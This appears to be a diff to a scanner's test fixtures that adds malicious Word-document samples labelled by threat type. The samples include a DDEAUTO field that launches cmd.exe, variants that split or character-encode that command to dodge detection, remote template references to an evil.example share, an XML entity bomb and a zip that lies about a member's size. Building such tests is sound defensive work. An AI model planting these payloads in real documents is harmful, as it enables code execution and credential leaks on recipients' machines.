@@ -24,6 +24,19 @@ SHARE_LINK = TEMPLATE.replace("http://evil.example/a.dotm", r"\\evil.example\sha
 DDE = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
 
 
+def field(*pieces: str) -> str:
+    """A field of a document whose code lies in several runs, as Word itself may write it."""
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
+    return f"<w:p>{ends[0]}{runs}{ends[1]}</w:p>"
+
+
+def template_at(address: str) -> bytes:
+    """A document made from a template that lies there."""
+    rels = TEMPLATE.replace("http://evil.example/a.dotm", address)
+    return docx("x", extra={"word/_rels/s.xml.rels": rels})
+
+
 def lying_zip() -> bytes:
     """A docx whose directory says that a large member is small."""
     data = bytearray(docx("x", extra={"word/big.xml": b"<a>" + b" " * 5_000_000 + b"</a>"}))
@@ -136,6 +149,12 @@ def office_files() -> Bad:
         "active_content",
     )
     yield "命令.docx", docx("x", body=DDE), "active_content"
+    yield "拆开的命令.docx", docx("x", body=field("D", "DE", "AUTO cmd")), "active_content"
+    yield "编码的命令.docx", docx("x", body=field("QUOTE 68 68", " 69 65 85")), "active_content"
+    for number, address in enumerate(
+        (r"file:///\\evil\a.dotm", "file://evil/a.dotm", "file:///%5C%5Cevil/a.dotm", r"/\evil\a")
+    ):
+        yield f"共享{number}.docx", template_at(address), "external_parts"
     yield "实体.docx", docx("x", extra={"word/footnotes.xml": LAUGHS}), "unsafe_xml"
     yield (
         "编码.docx",
